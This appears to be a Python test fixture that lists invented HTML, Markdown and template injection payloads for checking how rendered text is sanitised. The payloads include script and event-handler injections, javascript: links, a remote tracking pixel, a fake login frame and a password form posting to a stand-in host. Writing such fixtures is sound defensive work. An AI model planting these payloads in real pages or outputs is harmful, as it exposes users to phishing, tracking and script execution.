"""What a hostile document or question may hold: one text a kind, all invented here."""

FAR = "http://far.example"

PAYLOADS = {
    "script": "<script>document.title='taken'</script>",
    "handler": "<img src=x onerror=\"document.title='taken'\">",
    "remote image": f"<img src='{FAR}/pixel.png'>",
    "markdown image": f"![pixel]({FAR}/pixel.png)",
    "frame": f"<iframe src='{FAR}' srcdoc='<p>Log in</p>'></iframe>",
    "form": f"<form action='{FAR}'><input name=password><button>Go on</button></form>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999'>Your session has ended</div>",
    "style": "<style>.ar-lead { display: none }</style>",
    "drawing": "<svg onload=\"document.title='taken'\"><a href='javascript:alert(1)'>x</a></svg>",
    "script link": "[your results](javascript:document.title='taken')",
    "remote link": f"<a href='{FAR}'>[1]</a> <{FAR}> [1]: {FAR}",
    "refresh": f"<meta http-equiv='refresh' content='0;url={FAR}'><base href='{FAR}'>",
    "own markup": "<article class='ar-card' id='src-1-1'>proof</article><mark>said</mark>",
    "template": "${document.title='taken'} {{constructor.constructor('x')()}} {% x %}",
    "formula": "$$\\href{javascript:alert(1)}{x}$$ \\(\\html{x}\\)",
    "ends early": "--></blockquote></div></textarea></script>]]>\"'`><b>bold</b>",
    "entity": "&lt;script&gt;document.title='taken'&lt;/script&gt; &#60;b&#62;",
    "blank line": "quoted\n\n# A headline of our own\n\n| a | b |\n|---|---|\n| 1 | 2 |",
}
